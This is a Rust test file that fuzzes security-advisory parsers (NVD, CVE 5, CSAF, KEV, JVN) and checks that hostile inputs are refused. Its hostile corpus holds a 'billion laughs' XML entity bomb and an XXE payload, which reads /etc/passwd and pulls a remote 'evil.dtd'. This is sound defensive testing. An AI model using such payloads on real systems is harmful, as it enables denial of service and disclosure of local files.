//! Hostile inputs against every advisory importer (NVD JSON and `.json.gz`,
//! CVE JSON 5, CSAF, KEV JSON and CSV, JVN XML).
//!
//! Two halves:
//!
//! * property tests (proptest): arbitrary bytes, byte-level mutations of the
//!   real fixtures (flip, insert, delete, truncate, splice, duplicate) and
//!   structure-aware ones (a wrong JSON type at a random path, a key
//!   removed, duplicate keys, random XML elements nested anywhere). Every
//!   parser must return (no panic) within a time bound, and every rejection
//!   must name where it is. A file with one corrupted record still gives the
//!   other records where the format allows it.
//! * a hostile corpus: "billion laughs" and external entities in JVN XML,
//!   JSON nested 100,000 deep (parsed on a thread with a 2 MB stack), a
//!   50 MB JSON string, gzip bombs for the NVD reader (peak RSS measured in
//!   a child process), formula injection in a KEV CSV.
//!
//! The property tests run proptest's default 256 cases each, which keeps the
//! CI run short. `PROPTEST_CASES` overrides it (proptest reads it for the
//! default configuration used here); see the end of the file for a longer run.

use std::io::Write;
use std::process::Command;
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::GzEncoder;
use mamori_advisories::csaf::parse_csaf;
use mamori_advisories::cve5::parse_cve5;
use mamori_advisories::jvn::parse_jvn;
use mamori_advisories::kev::{parse_kev, parse_kev_csv};
use mamori_advisories::nvd::{parse_nvd, read_nvd, read_nvd_gz};
use mamori_advisories::{Advisory, ParseOutcome, Rejected};
use proptest::prelude::*;
use proptest::sample::Index;
use serde_json::Value;

/// The location every parser is given; every rejection must start with it.
const LOC: &str = "hostile.input";

/// A parse of an input of at most a few hundred kilobytes takes
/// milliseconds; this bound is for a debug build on a slow, busy CI machine.
const TIME_BOUND: Duration = Duration::from_secs(10);

type Parser = fn(&[u8], &str) -> ParseOutcome;

fn fixture(path: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/fixtures/{path}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// `read_nvd_gz` over bytes, as a parser.
fn parse_nvd_gz(bytes: &[u8], location: &str) -> ParseOutcome {
    let mut outcome = ParseOutcome::default();
    read_nvd_gz(bytes, location, &mut |record| match record {
        Ok(a) => outcome.advisories.push(a),
        Err(r) => outcome.rejected.push(r),
    });
    outcome
}

/// Every parser, by name.
const PARSERS: [(&str, Parser); 7] = [
    ("nvd", parse_nvd),
    ("nvd.gz", parse_nvd_gz),
    ("cve5", parse_cve5),
    ("csaf", parse_csaf),
    ("kev", parse_kev),
    ("kev.csv", parse_kev_csv),
    ("jvn", parse_jvn),
];

/// The JSON parsers.
const JSON_PARSERS: [(&str, Parser); 4] = [
    ("nvd", parse_nvd),
    ("cve5", parse_cve5),
    ("csaf", parse_csaf),
    ("kev", parse_kev),
];

/// Every fixture with the parser that reads it.
fn corpus() -> Vec<(&'static str, Parser, Vec<u8>)> {
    let nvd = [
        "nvd/CVE-2020-25175.excerpt.json",
        "nvd/CVE-2023-46805.json",
        "nvd/CVE-2024-21762.json",
        "nvd/CVE-2024-2652.malformed-id.json",
        "nvd/CVE-2024-2652.rejected.json",
        "nvd/api-page-3-items.json",
        "nvd/page-with-malformed.json",
        "nvd/nvdcve-2.0-2021.json.gz",
    ];
    let cve5 = [
        "cve5/CVE-2024-36130.json",
        "cve5/CVE-2024-4542.json",
        "cve5/CVE-2024-47575.json",
    ];
    let csaf = [
        "csaf/fortinet-FG-IR-24-041.json",
        "csaf/icsa-24-284-12.json",
        "csaf/icsma-17-009-01a.json",
        "csaf/icsma-21-187-01.json",
        "csaf/malformed-siemens-ssa-426509.json",
        "csaf/malformed-undefined-id-siemens-ssa-426509.json",
        "csaf/siemens-ssa-426509.json",
    ];
    let kev = ["kev/kev-cut.json", "kev/malformed-kev-cut.json"];
    let jvn = [
        "jvn/dataFeed_jvndb_rss_hnd.xml",
        "jvn/getVulnDetailInfo_hnd_JVNDB-2022-000097.xml",
        "jvn/jvndb_2022.rdf",
        "jvn/jvndb_detail_2022.rdf",
    ];
    let mut all = Vec::new();
    let mut add = |name: &'static str, parser: Parser, paths: &[&'static str]| {
        for path in paths {
            all.push((name, parser, fixture(path)));
        }
    };
    add("nvd", parse_nvd, &nvd);
    add("cve5", parse_cve5, &cve5);
    add("csaf", parse_csaf, &csaf);
    add("kev", parse_kev, &kev);
    add("kev.csv", parse_kev_csv, &["kev/kev-cut.csv"]);
    add("jvn", parse_jvn, &jvn);
    all
}

/// The JSON fixtures, already parsed (the gzipped feed inflated).
fn json_corpus() -> Vec<(&'static str, Parser, Value)> {
    corpus()
        .into_iter()
        .filter(|(name, ..)| JSON_PARSERS.iter().any(|(n, _)| n == name))
        .map(|(name, parser, bytes)| {
            let bytes = if bytes.starts_with(&[0x1f, 0x8b]) {
                let mut out = Vec::new();
                std::io::Read::read_to_end(
                    &mut flate2::read::MultiGzDecoder::new(&bytes[..]),
                    &mut out,
                )
                .unwrap();
                out
            } else {
                bytes
            };
            (name, parser, serde_json::from_slice(&bytes).unwrap())
        })
        .collect()
}

/// Runs `parser` and checks what every parse must satisfy: it returns
/// within the bound and every rejection names its place and reason.
fn run(name: &str, parser: Parser, bytes: &[u8]) -> ParseOutcome {
    let started = Instant::now();
    let outcome = parser(bytes, LOC);
    let took = started.elapsed();
    assert!(
        took < TIME_BOUND,
        "{name}: {took:?} for {} bytes",
        bytes.len()
    );
    for rejected in &outcome.rejected {
        check_rejection(name, rejected);
    }
    for advisory in &outcome.advisories {
        assert!(
            !advisory.id.trim().is_empty(),
            "{name}: advisory without id"
        );
    }
    outcome
}

fn check_rejection(name: &str, rejected: &Rejected) {
    assert!(
        rejected.location.starts_with(LOC),
        "{name}: rejection without the file's location: {rejected:?}"
    );
    assert!(
        !rejected.reason.trim().is_empty(),
        "{name}: rejection without a reason: {rejected:?}"
    );
}

fn ids(outcome: &ParseOutcome) -> Vec<&str> {
    outcome.advisories.iter().map(|a| a.id.as_str()).collect()
}

// ---------------------------------------------------------------------------
// Mutations.

#[derive(Debug, Clone)]
enum ByteEdit {
    Flip(Index, u8),
    Set(Index, u8),
    Insert(Index, Vec<u8>),
    Delete(Index, usize),
    Truncate(Index),
    /// Copies a span of the input to another place.
    Duplicate(Index, usize, Index),
}

fn byte_edit() -> impl Strategy<Value = ByteEdit> {
    prop_oneof![
        (any::<Index>(), 0u8..8).prop_map(|(i, bit)| ByteEdit::Flip(i, 1 << bit)),
        (any::<Index>(), any::<u8>()).prop_map(|(i, b)| ByteEdit::Set(i, b)),
        (
            any::<Index>(),
            prop_oneof![
                prop::collection::vec(any::<u8>(), 1..16),
                prop::sample::select(vec![
                    b"{".to_vec(),
                    b"}".to_vec(),
                    b"[".to_vec(),
                    b"]".to_vec(),
                    b"\"".to_vec(),
                    b",".to_vec(),
                    b":".to_vec(),
                    b"\\".to_vec(),
                    b"\\u".to_vec(),
                    b"<".to_vec(),
                    b">".to_vec(),
                    b"</".to_vec(),
                    b"&".to_vec(),
                    b"&amp".to_vec(),
                    b"&#x0;".to_vec(),
                    b"<![CDATA[".to_vec(),
                    b"<!--".to_vec(),
                    b"\xff\xfe".to_vec(),
                    b"\xe3\x81".to_vec(),
                    b"1e999999".to_vec(),
                    b"-0.0e-".to_vec(),
                    b"null".to_vec(),
                    b"\r\n".to_vec(),
                ]),
            ]
        )
            .prop_map(|(i, bytes)| ByteEdit::Insert(i, bytes)),
        (any::<Index>(), 1usize..64).prop_map(|(i, n)| ByteEdit::Delete(i, n)),
        any::<Index>().prop_map(ByteEdit::Truncate),
        (any::<Index>(), 1usize..256, any::<Index>())
            .prop_map(|(from, n, to)| ByteEdit::Duplicate(from, n, to)),
    ]
}

fn apply(bytes: &mut Vec<u8>, edit: &ByteEdit) {
    let len = bytes.len();
    if len == 0 {
        if let ByteEdit::Insert(_, new) = edit {
            bytes.extend_from_slice(new);
        }
        return;
    }
    match edit {
        ByteEdit::Flip(i, mask) => bytes[i.index(len)] ^= mask,
        ByteEdit::Set(i, b) => bytes[i.index(len)] = *b,
        ByteEdit::Insert(i, new) => {
            let at = i.index(len + 1);
            bytes.splice(at..at, new.iter().copied());
        }
        ByteEdit::Delete(i, n) => {
            let at = i.index(len);
            bytes.drain(at..(at + n).min(len));
        }
        ByteEdit::Truncate(i) => bytes.truncate(i.index(len)),
        ByteEdit::Duplicate(from, n, to) => {
            let from = from.index(len);
            let span = bytes[from..(from + n).min(len)].to_vec();
            let to = to.index(len + 1);
            bytes.splice(to..to, span);
        }
    }
}

/// A JSON value of a type the parsers will often not expect.
fn wrong_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        Just(Value::from(u64::MAX)),
        ".{0,40}".prop_map(Value::String),
        Just(Value::String("CVE-2024-0001".into())),
        Just(Value::String("2024-13-45T99:99:99".into())),
        Just(Value::String("cpe:2.3:a:*:*".into())),
    ];
    leaf.prop_recursive(3, 16, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::btree_map("[a-zA-Z_]{1,12}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

/// Every JSON pointer into `value`, the root included.
fn pointers(value: &Value, prefix: &str, out: &mut Vec<String>) {
    out.push(prefix.to_owned());
    match value {
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                pointers(item, &format!("{prefix}/{i}"), out);
            }
        }
        Value::Object(map) => {
            for (key, item) in map {
                let key = key.replace('~', "~0").replace('/', "~1");
                pointers(item, &format!("{prefix}/{key}"), out);
            }
        }
        _ => {}
    }
}

#[derive(Debug, Clone)]
enum JsonEdit {
    Replace(Index, Value),
    Remove(Index),
    /// Inserts `"key": value,` after a random `{` of the serialized text,
    /// with a key the parsers read, so objects get it twice.
    DuplicateKey(Index, &'static str, Value),
}

const KEYS: [&str; 16] = [
    "id",
    "cve",
    "vulnerabilities",
    "configurations",
    "nodes",
    "cpeMatch",
    "criteria",
    "cveMetadata",
    "cveId",
    "containers",
    "affected",
    "versions",
    "document",
    "product_tree",
    "product_status",
    "cveID",
];

fn json_edit() -> impl Strategy<Value = JsonEdit> {
    prop_oneof![
        3 => (any::<Index>(), wrong_json()).prop_map(|(i, v)| JsonEdit::Replace(i, v)),
        1 => any::<Index>().prop_map(JsonEdit::Remove),
        1 => (any::<Index>(), prop::sample::select(KEYS.to_vec()), wrong_json())
            .prop_map(|(i, k, v)| JsonEdit::DuplicateKey(i, k, v)),
    ]
}

/// Applies JSON edits and serializes the result.
fn apply_json(mut value: Value, edits: &[JsonEdit]) -> Vec<u8> {
    let mut duplicates = Vec::new();
    for edit in edits {
        let mut all = Vec::new();
        pointers(&value, "", &mut all);
        match edit {
            JsonEdit::Replace(i, new) => {
                let at = &all[i.index(all.len())];
                *value.pointer_mut(at).unwrap() = new.clone();
            }
            JsonEdit::Remove(i) => {
                let at = &all[i.index(all.len())];
                if let Some(cut) = at.rfind('/') {
                    let (parent, last) = (&at[..cut], &at[cut + 1..]);
                    match value.pointer_mut(parent) {
                        Some(Value::Object(map)) => {
                            map.remove(&last.replace("~1", "/").replace("~0", "~"));
                        }
                        Some(Value::Array(items)) => {
                            let index: usize = last.parse().unwrap();
                            items.remove(index);
                        }
                        _ => {}
                    }
                }
            }
            JsonEdit::DuplicateKey(i, key, new) => duplicates.push((i, *key, new)),
        }
    }
    let mut text = serde_json::to_vec(&value).unwrap();
    for (i, key, new) in duplicates {
        let braces: Vec<usize> = text
            .iter()
            .enumerate()
            .filter(|(_, b)| **b == b'{')
            .map(|(at, _)| at)
            .collect();
        if braces.is_empty() {
            continue;
        }
        let at = braces[i.index(braces.len())] + 1;
        let closes = text.get(at) == Some(&b'}');
        let mut member = format!("{}:{}", Value::from(key), new).into_bytes();
        if !closes {
            member.push(b',');
        }
        text.splice(at..at, member);
    }
    text
}

/// A random XML element tree from the names the JVN reader knows.
fn xml_tree() -> impl Strategy<Value = String> {
    let names = prop::sample::select(vec![
        "Vulinfo",
        "VulinfoID",
        "VulinfoData",
        "Title",
        "Affected",
        "AffectedItem",
        "Name",
        "ProductName",
        "VersionNumber",
        "Cpe",
        "Impact",
        "Cvss",
        "Base",
        "Severity",
        "Vector",
        "Related",
        "RelatedItem",
        "URL",
        "item",
        "title",
        "link",
        "identifier",
        "cpe",
        "cvss",
        "references",
        "RDF",
        "VULDEF-Document",
        "x",
    ]);
    let text = prop_oneof![
        Just(String::new()),
        "[^<&]{0,20}",
        Just("JVNDB-2099-000001".to_owned()),
        Just("7.5".to_owned()),
        Just("cpe:/a:vendor:product".to_owned()),
        Just("1.0 より前".to_owned()),
    ];
    let leaf = (names.clone(), text).prop_map(|(n, t)| {
        let escaped = t.replace('&', "&amp;").replace('<', "&lt;");
        format!("<{n} version=\"3.0\" type=\"x\">{escaped}</{n}>")
    });
    leaf.prop_recursive(4, 24, 4, move |inner| {
        (names.clone(), prop::collection::vec(inner, 0..4))
            .prop_map(|(n, children)| format!("<{n}>{}</{n}>", children.concat()))
    })
}

// ---------------------------------------------------------------------------
// Property tests.

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic_and_rejections_name_their_place(
        bytes in prop::collection::vec(any::<u8>(), 0..2048),
    ) {
        for (name, parser) in PARSERS {
            run(name, parser, &bytes);
        }
    }

    #[test]
    fn arbitrary_text_never_panics(text in "\\PC{0,512}") {
        for (name, parser) in PARSERS {
            run(name, parser, text.as_bytes());
        }
    }

    #[test]
    fn byte_mutations_of_the_fixtures_never_panic(
        which in any::<Index>(),
        edits in prop::collection::vec(byte_edit(), 1..8),
    ) {
        let corpus = corpus();
        let (name, parser, mut bytes) = corpus[which.index(corpus.len())].clone();
        for edit in &edits {
            apply(&mut bytes, edit);
        }
        run(name, parser, &bytes);
        // Whatever the file claims to be, the other parsers survive it too.
        for (other, parser) in PARSERS {
            run(other, parser, &bytes);
        }
    }

    #[test]
    fn gzipped_mutations_never_panic(
        which in any::<Index>(),
        edits in prop::collection::vec(byte_edit(), 0..4),
        gzip_edits in prop::collection::vec(byte_edit(), 0..4),
    ) {
        let corpus = corpus();
        let (_, _, mut bytes) = corpus[which.index(corpus.len())].clone();
        for edit in &edits {
            apply(&mut bytes, edit);
        }
        let mut gz = GzEncoder::new(Vec::new(), Compression::fast());
        gz.write_all(&bytes).unwrap();
        let mut gz = gz.finish().unwrap();
        for edit in &gzip_edits {
            apply(&mut gz, edit);
        }
        run("nvd", parse_nvd, &gz);
        run("nvd.gz", parse_nvd_gz, &gz);
    }

    #[test]
    fn wrong_json_types_at_random_paths_never_panic(
        which in any::<Index>(),
        edits in prop::collection::vec(json_edit(), 1..4),
    ) {
        let corpus = json_corpus();
        let (name, parser, value) = corpus[which.index(corpus.len())].clone();
        let bytes = apply_json(value, &edits);
        run(name, parser, &bytes);
    }

    #[test]
    fn random_xml_elements_nested_anywhere_never_panic(
        which in any::<Index>(),
        trees in prop::collection::vec((any::<Index>(), xml_tree()), 1..4),
        between_tags in any::<bool>(),
    ) {
        let corpus = corpus();
        let jvn: Vec<_> = corpus.iter().filter(|(name, ..)| *name == "jvn").collect();
        let mut text = jvn[which.index(jvn.len())].2.clone();
        for (at, tree) in &trees {
            let at = if between_tags {
                let ends: Vec<usize> = text
                    .iter()
                    .enumerate()
                    .filter(|(_, b)| **b == b'>')
                    .map(|(i, _)| i + 1)
                    .collect();
                ends[at.index(ends.len())]
            } else {
                at.index(text.len() + 1)
            };
            text.splice(at..at, tree.bytes());
        }
        run("jvn", parse_jvn, &text);
    }

    #[test]
    fn a_random_xml_document_never_panics(
        tree in xml_tree(),
        declaration in any::<bool>(),
    ) {
        let mut text = String::new();
        if declaration {
            text.push_str("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
        }
        text.push_str(&tree);
        run("jvn", parse_jvn, text.as_bytes());
    }

    /// One record of an NVD page with a wrong type somewhere inside it: the
    /// other records still come through.
    #[test]
    fn nvd_page_with_one_corrupted_record_keeps_the_others(
        record in any::<Index>(),
        edits in prop::collection::vec(json_edit(), 1..3),
    ) {
        let (page, expected) = nvd_page();
        let bad = record.index(expected.len());
        let mut page = page;
        let vulns = page["vulnerabilities"].as_array_mut().unwrap();
        let corrupted = apply_json(vulns[bad].clone(), &edits);
        // A duplicate-key edit can leave text that is no JSON value for us.
        if let Ok(value) = serde_json::from_slice::<Value>(&corrupted) {
            vulns[bad] = value;
        } else {
            vulns[bad] = Value::Null;
        }
        let bytes = serde_json::to_vec(&page).unwrap();
        let outcome = run("nvd", parse_nvd, &bytes);
        let got = ids(&outcome);
        for (i, id) in expected.iter().enumerate() {
            if i != bad {
                prop_assert!(got.contains(&id.as_str()), "{id} lost: {got:?}");
            }
        }
    }

    /// Bytes broken inside one record of an NVD page: the stream stops there
    /// (the rest is not JSON any more) but the records before it are kept.
    #[test]
    fn nvd_page_broken_inside_one_record_keeps_the_records_before_it(
        record in any::<Index>(),
        edits in prop::collection::vec(byte_edit(), 1..4),
    ) {
        let (page, expected) = nvd_page();
        let records = page["vulnerabilities"].as_array().unwrap();
        let bad = record.index(records.len());
        let mut bytes = b"{\"vulnerabilities\":[".to_vec();
        for (i, item) in records.iter().enumerate() {
            if i > 0 {
                bytes.push(b',');
            }
            let mut text = serde_json::to_vec(item).unwrap();
            if i == bad {
                for edit in &edits {
                    apply(&mut text, edit);
                }
            }
            bytes.extend(text);
        }
        bytes.extend_from_slice(b"]}");
        let outcome = run("nvd", parse_nvd, &bytes);
        let got = ids(&outcome);
        for id in &expected[..bad] {
            prop_assert!(got.contains(&id.as_str()), "{id} lost: {got:?}");
        }
    }

    /// The same for the KEV catalogue, JSON and CSV.
    #[test]
    fn kev_with_one_corrupted_entry_keeps_the_others(
        entry in any::<Index>(),
        value in wrong_json(),
        field in prop::sample::select(vec![
            "cveID", "vendorProject", "product", "dateAdded", "dueDate", "notes",
        ]),
        text in "\\PC{0,64}",
    ) {
        let json: Value = serde_json::from_slice(&fixture("kev/kev-cut.json")).unwrap();
        let baseline = parse_kev(&fixture("kev/kev-cut.json"), LOC);
        prop_assert!(baseline.rejected.is_empty());
        let expected = ids(&baseline);
        let bad = entry.index(expected.len());

        let mut corrupted = json.clone();
        corrupted["vulnerabilities"][bad][field] = value;
        let outcome = run("kev", parse_kev, &serde_json::to_vec(&corrupted).unwrap());
        let got = ids(&outcome);
        for (i, id) in expected.iter().enumerate() {
            if i != bad {
                prop_assert!(got.contains(id), "{id} lost: {got:?}");
            }
        }

        // CSV: the same entry's field replaced by arbitrary text, quoted as
        // CSV quotes it.
        let original = fixture("kev/kev-cut.csv");
        let mut reader = csv::ReaderBuilder::new()
            .flexible(true)
            .from_reader(&original[..]);
        let headers = reader.headers().unwrap().clone();
        let column = headers.iter().position(|h| h == field).unwrap();
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(&headers).unwrap();
        let mut expected_csv = Vec::new();
        for (i, record) in reader.records().enumerate() {
            let mut fields: Vec<String> =
                record.unwrap().iter().map(str::to_owned).collect();
            if i == bad {
                fields[column] = text.clone();
            } else {
                expected_csv.push(fields[0].clone());
            }
            writer.write_record(&fields).unwrap();
        }
        let bytes = writer.into_inner().unwrap();
        let outcome = run("kev.csv", parse_kev_csv, &bytes);
        let got = ids(&outcome);
        for id in &expected_csv {
            prop_assert!(got.contains(&id.as_str()), "{id} lost: {got:?}");
        }
    }

    /// An array of CVE 5 records with one corrupted.
    #[test]
    fn cve5_array_with_one_corrupted_record_keeps_the_others(
        record in any::<Index>(),
        edits in prop::collection::vec(json_edit(), 1..3),
    ) {
        let records: Vec<Value> = [
            "cve5/CVE-2024-36130.json",
            "cve5/CVE-2024-4542.json",
            "cve5/CVE-2024-47575.json",
        ]
        .iter()
        .map(|p| serde_json::from_slice(&fixture(p)).unwrap())
        .collect();
        let baseline = parse_cve5(&serde_json::to_vec(&records).unwrap(), LOC);
        prop_assert!(baseline.rejected.is_empty(), "{:?}", baseline.rejected);
        let expected: Vec<String> = ids(&baseline).iter().map(|s| s.to_string()).collect();
        prop_assert_eq!(expected.len(), 3);
        let bad = record.index(records.len());
        let mut records = records;
        let corrupted = apply_json(records[bad].clone(), &edits);
        records[bad] = serde_json::from_slice(&corrupted).unwrap_or(Value::Null);
        let outcome = run("cve5", parse_cve5, &serde_json::to_vec(&records).unwrap());
        let got = ids(&outcome);
        for (i, id) in expected.iter().enumerate() {
            if i != bad {
                prop_assert!(got.contains(&id.as_str()), "{id} lost: {got:?}");
            }
        }
    }

    /// A JVN detail feed with random elements inside its first entry: the
    /// second entry still comes through.
    #[test]
    fn jvn_feed_with_one_corrupted_entry_keeps_the_other(
        trees in prop::collection::vec((any::<Index>(), xml_tree()), 1..3),
        drop_id in any::<bool>(),
    ) {
        let feed = String::from_utf8(fixture("jvn/jvndb_detail_2022.rdf")).unwrap();
        let baseline = parse_jvn(feed.as_bytes(), LOC);
        prop_assert!(baseline.rejected.is_empty(), "{:?}", baseline.rejected);
        let expected: Vec<String> = ids(&baseline).iter().map(|s| s.to_string()).collect();
        prop_assert_eq!(expected.len(), 2);
        let first = feed.find("<Vulinfo>").unwrap() + "<Vulinfo>".len();
        let second = feed[first..].find("<Vulinfo>").unwrap() + first;
        let mut entry = feed[first..second].to_owned();
        if drop_id {
            entry = entry.replacen(&expected[0], "", 1);
        }
        // Only between the entry's tags, so the document stays well formed.
        let ends: Vec<usize> = entry
            .char_indices()
            .filter(|(_, c)| *c == '>')
            .map(|(i, _)| i + 1)
            .filter(|i| *i < entry.rfind("</Vulinfo>").unwrap())
            .collect();
        // From the last place to the first, so earlier places stay put.
        let mut places: Vec<(usize, &String)> = trees
            .iter()
            .map(|(at, tree)| (ends[at.index(ends.len())], tree))
            .collect();
        places.sort_by_key(|(at, _)| std::cmp::Reverse(*at));
        for (at, tree) in places {
            entry.insert_str(at, tree);
        }
        let text = format!("{}{entry}{}", &feed[..first], &feed[second..]);
        let outcome = run("jvn", parse_jvn, text.as_bytes());
        let got = ids(&outcome);
        prop_assert!(got.contains(&expected[1].as_str()), "{} lost: {got:?} {:?}", expected[1], outcome.rejected);
    }
}

/// The NVD fixture page with several good records, and their ids.
fn nvd_page() -> (Value, Vec<String>) {
    let bytes = fixture("nvd/api-page-3-items.json");
    let baseline = parse_nvd(&bytes, LOC);
    assert!(baseline.rejected.is_empty(), "{:?}", baseline.rejected);
    let expected: Vec<String> = ids(&baseline).iter().map(|s| s.to_string()).collect();
    assert!(expected.len() >= 3);
    (serde_json::from_slice(&bytes).unwrap(), expected)
}

// ---------------------------------------------------------------------------
// The hostile corpus.

/// Runs `f` on a thread with a 2 MB stack: a parser that recursed once per
/// nesting level would overflow it (and abort the whole test binary).
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(f)
        .unwrap()
        .join()
        .expect("the parser panicked")
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<VULDEF-Document version="3.2" xmlns="http://jvn.jp/vuldef/">
  <Vulinfo>
    <VulinfoID>JVNDB-2024-000001</VulinfoID>
    <VulinfoData><Title>&lol9;</Title></VulinfoData>
  </Vulinfo>
</VULDEF-Document>
"#;

const EXTERNAL_ENTITY: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE VULDEF-Document [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">
  %remote;
]>
<VULDEF-Document version="3.2" xmlns="http://jvn.jp/vuldef/">
  <Vulinfo>
    <VulinfoID>JVNDB-2024-000002</VulinfoID>
    <VulinfoData>
      <Title>&xxe;</Title>
      <VulinfoDescription><Overview>&xxe;</Overview></VulinfoDescription>
    </VulinfoData>
  </Vulinfo>
</VULDEF-Document>
"#;

/// Nothing a parser returned mentions what only /etc/passwd holds.
fn assert_no_passwd(outcome: &ParseOutcome) {
    let shown = format!("{outcome:?}");
    for needle in ["root:x:0:0", "/bin/sh", "/usr/sbin/nologin", "daemon:"] {
        assert!(!shown.contains(needle), "{needle} leaked: {shown}");
    }
}

#[test]
fn jvn_billion_laughs_is_refused_fast() {
    let started = Instant::now();
    let outcome = on_small_stack(|| parse_jvn(BILLION_LAUGHS.as_bytes(), LOC));
    assert!(started.elapsed() < Duration::from_secs(1));
    assert!(outcome.advisories.is_empty(), "{:?}", outcome.advisories);
    assert_eq!(outcome.rejected.len(), 1, "{:?}", outcome.rejected);
    check_rejection("jvn", &outcome.rejected[0]);
    assert!(
        outcome.rejected[0].reason.contains("DTD"),
        "{:?}",
        outcome.rejected
    );
    assert!(!format!("{outcome:?}").contains("lollol"));
}

#[test]
fn jvn_external_entities_are_refused_and_nothing_of_the_file_comes_out() {
    let started = Instant::now();
    let outcome = parse_jvn(EXTERNAL_ENTITY.as_bytes(), LOC);
    assert!(started.elapsed() < Duration::from_secs(1));
    assert!(outcome.advisories.is_empty(), "{:?}", outcome.advisories);
    assert_eq!(outcome.rejected.len(), 1, "{:?}", outcome.rejected);
    check_rejection("jvn", &outcome.rejected[0]);
    assert!(outcome.rejected[0].reason.contains("external entities"));
    assert_no_passwd(&outcome);
}

#[test]
fn jvn_entities_without_a_dtd_are_refused_too() {
    // An entity reference with no DOCTYPE is undeclared: not expanded, and
    // (the document being malformed) the entry is not kept half-read.
    let text = r#"<?xml version="1.0"?>
<VULDEF-Document version="3.2"><Vulinfo><VulinfoID>JVNDB-2024-000003</VulinfoID>
<VulinfoData><Title>&xxe;</Title></VulinfoData></Vulinfo></VULDEF-Document>"#;
    let outcome = parse_jvn(text.as_bytes(), LOC);
    assert!(outcome.advisories.is_empty(), "{:?}", outcome.advisories);
    assert_eq!(outcome.rejected.len(), 1, "{:?}", outcome.rejected);
    check_rejection("jvn", &outcome.rejected[0]);
    assert!(outcome.rejected[0].reason.contains("undeclared entity"));
    assert_no_passwd(&outcome);

    // A DOCTYPE after the root (or in the middle) is refused as well.
    let late = format!(
        "{}<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        String::from_utf8(fixture("jvn/jvndb_detail_2022.rdf")).unwrap()
    );
    let outcome = parse_jvn(late.as_bytes(), LOC);
    assert!(outcome.advisories.is_empty());
    assert!(outcome.rejected.iter().any(|r| r.reason.contains("DTD")));
    assert_no_passwd(&outcome);
}

#[test]
fn jvn_elements_nested_100_000_deep_are_read_without_recursion() {
    let depth = 100_000;
    let mut text = String::from("<VULDEF-Document><Vulinfo>");
    text.push_str(&"<VulinfoData>".repeat(depth));
    text.push_str(&"</VulinfoData>".repeat(depth));
    text.push_str("</Vulinfo></VULDEF-Document>");
    let started = Instant::now();
    let outcome = on_small_stack(move || parse_jvn(text.as_bytes(), LOC));
    assert!(started.elapsed() < TIME_BOUND);
    // The entry has no id: rejected with its line.
    assert!(outcome.advisories.is_empty());
    assert_eq!(outcome.rejected.len(), 1, "{:?}", outcome.rejected);
    check_rejection("jvn", &outcome.rejected[0]);

    // Unclosed, it is a truncated document.
    let open = format!("<VULDEF-Document>{}", "<x>".repeat(depth));
    let outcome = on_small_stack(move || parse_jvn(open.as_bytes(), LOC));
    assert_eq!(outcome.rejected.len(), 1, "{:?}", outcome.rejected);
    assert!(outcome.rejected[0].reason.contains("truncated"));
}

#[test]
fn json_nested_100_000_deep_is_rejected_without_overflowing_the_stack() {
    let depth = 100_000;
    let shapes = [
        "[".repeat(depth) + &"]".repeat(depth),
        "{\"a\":".repeat(depth) + "1" + &"}".repeat(depth),
        format!(
            "{{\"vulnerabilities\":{}{}}}",
            "[".repeat(depth),
            "]".repeat(depth)
        ),
        format!(
            "{{\"vulnerabilities\":[{{\"cve\":{}1{}}}]}}",
            "{\"id\":".repeat(depth),
            "}".repeat(depth)
        ),
        // Unclosed: the parser must give up before the end, not after.
        "[".repeat(depth),
    ];
    for text in shapes {
        for (name, parser) in JSON_PARSERS {
            let text = text.clone();
            let started = Instant::now();
            let outcome = on_small_stack(move || parser(text.as_bytes(), LOC));
            assert!(started.elapsed() < TIME_BOUND, "{name}");
            assert!(outcome.advisories.is_empty(), "{name}");
            assert!(!outcome.rejected.is_empty(), "{name}");
            for r in &outcome.rejected {
                check_rejection(name, r);
            }
        }
        // The gzipped path too.
        let mut gz = GzEncoder::new(Vec::new(), Compression::fast());
        gz.write_all(text.as_bytes()).unwrap();
        let gz = gz.finish().unwrap();
        let outcome = on_small_stack(move || parse_nvd(&gz, LOC));
        assert!(!outcome.rejected.is_empty());
    }
}

